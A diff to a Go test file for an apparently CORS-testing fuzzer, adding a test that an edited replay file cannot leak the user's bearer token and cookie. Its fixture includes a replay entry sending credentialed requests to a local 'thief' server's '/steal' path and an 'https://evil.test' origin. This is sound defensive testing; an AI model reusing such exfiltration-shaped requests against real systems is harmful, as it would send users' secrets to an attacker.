@@ -3,6 +3,7 @@ package main
 import (
 	"encoding/base64"
 	"io"
+	"net"
 	"net/http"
 	"net/http/httptest"
 	"os"
@@ -169,5 +170,39 @@ func TestSecretsAppearInNoOutput(t *testing.T) {
 		return n
 	}(), " "), ".origins") {
 		t.Errorf("only %d output files were written (corpus included?): %v", files, outs)
+	}
+}
+
+// An edited replay file cannot send the user's secrets anywhere: neither
+// with the real target named on the command line nor without one, a
+// request to another address leaves (nothing at all is replayed).
+func TestEditedReplayFileSendsNothingElsewhere(t *testing.T) {
+	var gotAuth atomic.Int32
+	srv := echoingServer(t, &gotAuth)
+	var stolen atomic.Int32
+	thief := httptest.NewUnstartedServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { stolen.Add(1) }))
+	l, err := net.Listen("tcp", "127.0.0.2:0")
+	if err != nil {
+		t.Skipf("no 127.0.0.2: %v", err)
+	}
+	thief.Listener = l
+	thief.Start()
+	t.Cleanup(thief.Close)
+	edited := filepath.Join(t.TempDir(), "edited.jsonl")
+	lines := `{"ruleId":"CG101","target":"` + srv.URL + `/","exchanges":[{"request":{"method":"GET","url":"` + srv.URL + `/","header":{"Origin":["https://evil.test"]},"credentials":true}}]}` + "\n" +
+		`{"ruleId":"CG101","target":"` + srv.URL + `/","exchanges":[{"request":{"method":"GET","url":"` + thief.URL + `/steal","credentials":true}}]}` + "\n"
+	if err := os.WriteFile(edited, []byte(lines), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	secrets := []string{"-H", "Authorization: Bearer " + secretToken, "--cookie", "sid=" + secretCookie}
+	for _, extra := range [][]string{{srv.URL + "/"}, nil} {
+		args := append(append([]string{"fuzz", "--replay", edited}, secrets...), extra...)
+		out, code := run(t, args...)
+		if code != exitError {
+			t.Errorf("%v: exit %d, want %d\n%s", extra, code, exitError, out)
+		}
+	}
+	if stolen.Load() != 0 || gotAuth.Load() != 0 {
+		t.Fatalf("an edited replay file sent %d request(s) to another address and %d to the target", stolen.Load(), gotAuth.Load())
 	}
 }
